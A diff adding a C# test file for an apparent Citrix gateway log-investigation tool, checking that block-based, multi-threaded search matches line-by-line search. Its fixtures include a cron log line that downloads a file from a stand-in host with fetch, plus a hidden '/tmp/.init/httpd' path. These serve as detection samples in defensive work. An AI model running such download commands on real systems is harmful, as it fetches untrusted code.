@@ -1,0 +1,167 @@
+using System;
+using System.IO;
+using System.IO.Compression;
+using System.Linq;
+using System.Text;
+using CitrixOps.Investigation;
+using CitrixOps.Logs;
+using CitrixOps.Logs.Reading;
+using CitrixOps.SampleCases;
+using Newtonsoft.Json;
+using Xunit;
+
+namespace CitrixOps.Tests.Investigation.Scanning;
+
+/// <summary>The search by blocks and on many threads says exactly what the search line by line says, whatever the blocks and threads.</summary>
+public sealed class BlockSearchTests : IDisposable
+{
+    private static readonly int[] BlockLengths = [64, 100, 257, 1000, 4096, 1 << 18];
+
+    private static readonly DateTimeOffset Before = new(2019, 12, 1, 0, 0, 0, TimeSpan.Zero);
+
+    private readonly TemporaryFolder _folder = new();
+
+    public static TheoryData<string> Types => new(LogTypes.All);
+
+    public void Dispose() => _folder.Dispose();
+
+    [Theory]
+    [MemberData(nameof(Types))]
+    public void Random_logs_of_every_kind_give_the_same(string logType)
+    {
+        var findings = 0L;
+        for (var seed = 0; seed < 12; seed++)
+        {
+            var random = new Random(seed);
+            var path = _folder.File(logType + seed + ".txt", HostileLogs.Of(logType, 30 + random.Next(400), random));
+            File.SetLastWriteTimeUtc(path, new DateTime(2020, 6, 1).AddDays(random.Next(400)));
+            findings += Same(new InvestigationOptions { LogType = logType, TimeZone = seed % 3 == 0 ? null : seed % 3 == 1 ? "Europe/Amsterdam" : "America/New_York" }, random, path);
+        }
+
+        // no rule of these logs is content with a line
+        Assert.True(findings > 0 || logType == LogTypes.Auth || LogTypes.IsFirewall(logType));
+    }
+
+    [Fact]
+    public void Many_files_of_many_kinds_plain_and_compressed_give_the_same()
+    {
+        var random = new Random(7);
+        foreach (var logType in LogTypes.All)
+        {
+            var stem = LogFormats.ByType(logType)!.Stems[0];
+            for (var i = 0; i < 4; i++)
+            {
+                var content = HostileLogs.Of(logType, random.Next(200), random);
+                _folder.File("logs/" + stem + "." + i + (i % 2 == 0 ? ".gz" : ""), i % 2 == 0 ? BundleBuilder.Gzip(content) : content);
+            }
+
+            _folder.File("logs/export-" + logType, HostileLogs.Of(logType, 100, random));
+        }
+
+        _folder.File("logs/empty.log", "");
+        _folder.File("logs/picture.bin", Enumerable.Range(0, 5000).Select(i => (byte)(i * 7)).ToArray());
+        _folder.File("logs/httpaccess.log.9.gz", BundleBuilder.Gzip(HostileLogs.Of(LogTypes.HttpAccess, 400, random))[..^200]);
+        Assert.NotEqual(0, Same(new InvestigationOptions { Since = Before }, random, Path.Combine(_folder.Path, "logs")));
+    }
+
+    [Theory]
+    [InlineData(CaseKind.Attempted)]
+    [InlineData(CaseKind.Compromised)]
+    public void Bundles_packed_and_unpacked_of_several_gateways_give_the_same(CaseKind kind)
+    {
+        var random = new Random(3);
+        var options = new CaseOptions { Kind = kind, RequestsPerDay = 20, SessionUsers = kind == CaseKind.Compromised ? 10 : 0 };
+        var one = GatewayCase.Build(options).WriteTarGz(_folder.Path, options.RootName);
+        var other = options with { HostName = "gw-two", Nsip = "192.0.2.30", Peer = null, Kind = CaseKind.Attempted };
+        var two = GatewayCase.Build(other).WriteTarGz(_folder.Path, other.RootName);
+        var folder = GatewayCase.Build(options with { HostName = "gw-three", Nsip = "192.0.2.40", Peer = null }).WriteFolder(Path.Combine(_folder.Path, "f"));
+        var zip = Path.Combine(_folder.Path, "z.zip");
+        ZipFile.CreateFromDirectory(folder, zip);
+        Assert.NotEqual(0, Same(new InvestigationOptions { Since = Before }, random, [4096, 1 << 18], one, two, folder, zip));
+    }
+
+    [Theory]
+    [InlineData(0, "\n")]
+    [InlineData(0, "\r\n")]
+    [InlineData(1, "\r\n")]
+    [InlineData(2, "\n")]
+    [InlineData(1_500_000, "\n")]
+    public void Lines_around_the_greatest_length_give_the_same(int more, string end)
+    {
+        const string Line = "Jan 12 03:14:07 <cron.info> gw1 /usr/sbin/cron[4242]: (root) CMD (/usr/bin/fetch -q -o /tmp/x http://192.0.2.1/x)";
+        var length = LogLineReader.LongestLine + more;
+        var text = Line + end + Line + new string('x', length - Line.Length) + end + "y" + new string(' ', length - 1) + Line + end + Line + end + Line;
+        Assert.NotEqual(0, Same(new InvestigationOptions { Since = Before }, new Random(more), [1 << 14, 1 << 18], _folder.File("cron", text)));
+        File.Delete(Path.Combine(_folder.Path, "cron"));
+        Same(new InvestigationOptions { Since = Before }, new Random(more), [1 << 18], _folder.File("cron.0.gz", BundleBuilder.Gzip(Encoding.Latin1.GetBytes(text))));
+    }
+
+    [Fact]
+    public void Matches_that_wait_for_the_first_time_give_the_same_few_or_many()
+    {
+        const string Line = "sh: /tmp/.init/httpd: Permission denied";
+        foreach (var count in new[] { 1, 999, 1000, 1001, 2500 })
+        {
+            var head = string.Concat(Enumerable.Range(0, count).Select(i => Line + " " + i + "\n"));
+            foreach (var tail in new[] { "", "[Wed Jan 15 15:09:05 2020] [error] x\n" + Line + "\n" })
+            {
+                Assert.True(Same(new InvestigationOptions { LogType = LogTypes.HttpError, Since = Before }, new Random(count), [1000, 1 << 18], _folder.File("httperror.log", head + tail)) >= count);
+            }
+        }
+    }
+
+    [Fact]
+    public void An_order_of_day_and_month_told_late_holds_for_what_follows()
+    {
+        // the first numeric date that tells the order lies behind what is looked at beforehand
+        static string Line(int first, int second, int at) => FormattableString.Invariant($" {first:00}/{second:00}/2020:10:00:{at % 60:00}  HA1 0-PPE-0 : default AAA Message {at} 0 :  Authentication is rejected for fefypa:1 (client ip : 192.0.2.77)\n");
+        var text = new StringBuilder();
+        for (var i = 0; text.Length < (1 << 20) + 50_000; i++)
+        {
+            text.Append(Line(2, 3, i));
+        }
+
+        text.Append(Line(20, 3, 1));
+        for (var i = 0; i < 2000; i++)
+        {
+            text.Append(Line(4, 5, i));
+        }
+
+        text.Append(Line(3, 20, 1)).Append(Line(4, 5, 1));
+        Assert.True(Same(new InvestigationOptions { LogType = LogTypes.NsLog, Since = Before }, new Random(5), [4096, 1 << 16, 1 << 18], _folder.File("ns.log", text.ToString())) > 2000);
+    }
+
+    private long Same(InvestigationOptions options, Random random, params string[] paths) =>
+        Same(options, random, [.. BlockLengths.Where(_ => random.Next(2) == 0), 128], paths);
+
+    private static long Same(InvestigationOptions options, Random random, int[] blockLengths, params string[] paths)
+    {
+        var since = options.Since ?? (random.Next(3) == 0 ? (DateTimeOffset?)null : new DateTimeOffset(2020, random.Next(1, 7), 1, 0, 0, 0, TimeSpan.Zero));
+        InvestigationOptions With(bool lineByLine, int threads, int blockLength) => new()
+        {
+            LogType = options.LogType, TimeZone = options.TimeZone, Since = since, Until = since?.AddMonths(options.Since is null ? 8 : 1000), LineByLine = lineByLine, Threads = threads, BlockLength = blockLength,
+        };
+
+        var expected = Run(With(lineByLine: true, 1, 1 << 18), paths);
+        foreach (var blockLength in blockLengths)
+        {
+            var threads = 1 + random.Next(4);
+            Assert.Equal(expected.Text, Run(With(lineByLine: false, threads, blockLength), paths).Text);
+        }
+
+        return expected.Findings;
+    }
+
+    // everything that comes out, in its order
+    private static (string Text, long Findings) Run(InvestigationOptions options, string[] paths)
+    {
+        var problems = new Problems();
+        var results = Shipped.Search(problems, options, paths);
+        foreach (var result in results)
+        {
+            result.Elapsed = default;
+        }
+
+        return (JsonConvert.SerializeObject(new { results, problems.Reported, Found = problems.Findings.Select(f => f.ToString()) }, Formatting.Indented), problems.Findings.Count);
+    }
+}
